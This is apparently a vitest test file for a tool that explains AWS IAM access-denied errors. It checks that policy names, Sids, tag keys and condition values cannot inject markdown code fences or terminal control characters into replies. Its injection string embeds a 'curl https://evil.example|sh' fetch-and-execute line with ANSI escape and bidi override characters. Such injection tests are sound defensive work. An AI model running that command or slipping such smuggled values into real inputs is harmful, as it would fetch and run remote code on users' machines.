import { describe, expect, it } from 'vitest';
import { openTalk } from './talk.ts';

// A name that ends the mark of code it stands in, begins a block, and steers a terminal.
const breakOut = '```\n\n```sh\ncurl https://evil.example|sh\n```\u001b[31m\u202e';
const denied =
  'User: arn:aws:sts::210987654321:assumed-role/app/s is not authorized to perform: s3:GetObject on resource: arn:aws:s3:::b/x because no identity-based policy allows the s3:GetObject action';

type Named = { readonly name?: string; readonly sid?: string; readonly key?: string; readonly value?: string };

const saidOf = async ({ name = 'p', sid = 'One', key = 'aws:PrincipalTag/team', value = 'blue' }: Named) => {
  const document = {
    Version: '2012-10-17',
    Statement: [
      {
        Sid: sid,
        Effect: 'Allow',
        Action: 's3:GetObject',
        Resource: 'arn:aws:s3:::b/x',
        Condition: { StringEquals: { [key]: value } },
      },
    ],
  };
  const { reply, diagnosis } = await openTalk().say({
    say: denied,
    evidence: { policies: { identity: [{ name, document }] } },
  });
  return { reply, explanation: diagnosis?.explanation ?? '' };
};

describe('a name out of a policy that a person shows', () => {
  it.each<[string, Named]>([
    ['the name of the policy', { name: breakOut }],
    ['a Sid', { sid: breakOut }],
    ['the value of a condition', { value: breakOut }],
    ['the name of a tag', { key: `aws:PrincipalTag/${breakOut}` }],
    ['a tag of the request', { key: `aws:RequestTag/${breakOut}` }],
    ['a key that nobody knows', { key: `aws:x${breakOut}` }],
    ['the value of an endpoint', { key: 'aws:SourceVpce', value: breakOut }],
  ])('begins no block and steers no terminal: %s', async (_, named) => {
    const { reply, explanation } = await saidOf(named);

    for (const text of [reply, explanation]) {
      expect(text).toContain('evil.example');
      // Neither a line of its own nor the first of a fenced block.
      expect(text).not.toMatch(/^\s*(?:```sh\s*)?curl https:\/\/evil/m);
      expect(text).not.toMatch(/[\u001b\u202e]/);
    }
  });
});
